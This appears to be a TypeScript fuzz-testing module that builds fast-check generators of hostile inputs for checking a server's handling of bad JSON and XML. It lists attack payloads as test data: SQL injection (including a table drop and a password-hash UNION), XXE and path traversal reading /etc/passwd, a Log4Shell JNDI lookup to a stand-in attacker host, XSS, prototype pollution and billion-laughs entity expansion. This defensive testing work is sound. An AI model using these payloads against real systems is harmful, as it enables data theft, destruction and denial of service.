/** fast-check arbitraries of hostile values: injections, odd unicode, overlong text, huge and negative numbers. */
import fc from 'fast-check';

/** SQL, XML entity, path traversal, template and prototype-pollution strings. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE customers; --",
  '" OR ""="',
  "1' UNION SELECT password_hash FROM users --",
  '1; SELECT pg_sleep(30); --',
  '%',
  '_',
  '\\',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<![CDATA[ ]]>',
  '&lt;&amp;&#0;',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..\\..\\..\\windows\\win.ini',
  '/dev/zero',
  '${jndi:ldap://attacker/x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"$gt":""}',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x1F',
  '',
  ' ',
  '\t\r\n',
  '\u0000',
];

/** Characters a careless parser or database mishandles. */
export const UNICODE = [
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '\u202Eevil\u202C',
  'ǅ İ ß ﬃ',
  'Ω≈ç√∫˜µ≤≥÷',
  '\uD800',
  '\uDFFF\uD800',
  '\uFFFE\uFFFF',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗̻',
  '\u200B\u200D\uFEFF',
  '🏳️‍🌈👩‍👩‍👧',
  'ｆｕｌｌｗｉｄｔｈ',
  '١٢٣٤',
];

export const overlong = fc
  .constantFrom(65, 257, 1025, 5000, 70_000)
  .chain((n) => fc.constantFrom('x', 'é', '9', '😀').map((c) => c.repeat(n)));

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.constantFrom(...UNICODE) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: overlong },
);

/** Numbers at and beyond every limit that still survive JSON.stringify. */
export const nastyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    -1,
    -100,
    0,
    -0,
    0.5,
    -0.01,
    2 ** 31,
    -(2 ** 31) - 1,
    2 ** 53 + 2,
    -(2 ** 53) - 2,
    1e20,
    -1e20,
    1e308,
    Number.MIN_VALUE,
  ),
  fc.integer({ min: -1_000_000, max: -1 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Number literals JSON.stringify cannot write: they are spliced into the text raw. */
export const RAW_NUMBERS = [
  '1e400',
  '-1e400',
  '123456789012345678901234567890',
  '-0.0000000000000000000000001',
  '1E+2',
  '0.1e-400',
];

export const RAW_MARK = '__raw_number__';

/** Any JSON value of the wrong kind, shallow or deeply nested. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: nastyString },
  { weight: 3, arbitrary: nastyNumber },
  { weight: 1, arbitrary: fc.constantFrom(...RAW_NUMBERS).map((n) => `${RAW_MARK}${n}`) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.oneof(nastyString, nastyNumber), { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(nastyString, nastyNumber, { maxKeys: 3 }) },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 20, max: 200 }).map((depth) => {
      let v: unknown = 1;
      for (let i = 0; i < depth; i += 1) v = { a: [v] };
      return v;
    }),
  },
);

/** JSON text with raw number literals put back in place of their markers. */
export function toJsonText(value: unknown): string {
  return JSON.stringify(value).replace(new RegExp(`"${RAW_MARK}([^"]*)"`, 'g'), '$1');
}

/** Text that is not JSON at all (or that the server must refuse to parse: prototype poisoning, depth). */
export const brokenJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '{',
    '{"a":',
    '{"a":1,}',
    "{'a':1}",
    '{a:1}',
    'undefined',
    'NaN',
    '{"a":NaN}',
    '{"a":1}{"b":2}',
    '[1,2',
    '{"a":"\\u12"}',
    '{"a":"\\x41"}',
    '{"a":01}',
    '{"a":"unterminated}',
    '\u0000',
    ' ',
    '<xml/>',
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
  ),
  fc.integer({ min: 1, max: 400 }).map((n) => '{"a":'.repeat(n)),
  fc.constantFrom(5_000, 50_000, 200_000).map((n) => '['.repeat(n) + ']'.repeat(n)),
  fc.constantFrom(5_000, 50_000).map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n)),
  fc
    .tuple(fc.string({ minLength: 1, maxLength: 60 }), fc.nat(59))
    .map(([s, cut]) => `{"k":"${s.replace(/["\\]/g, '')}"`.slice(0, cut + 2)),
);

/** Broken or hostile XML: unclosed tags, entity expansion (billion laughs), external entities. */
export const brokenXml: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '<Customer><lastname>x</lastname>',
    '<a><b></a></b>',
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x">%p;]><x/>',
    ']]>',
    '<a attr="1" attr="2"/>',
    '<\u0000/>',
  ),
  fc.integer({ min: 2, max: 9 }).map((levels) => {
    let dtd = '<!ENTITY l0 "lol">';
    for (let i = 1; i <= levels; i += 1) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
    return `<?xml version="1.0"?><!DOCTYPE lolz [${dtd}]><lolz>&l${levels};</lolz>`;
  }),
  fc.constantFrom(1000, 20_000).map((n) => '<a>'.repeat(n)),
);
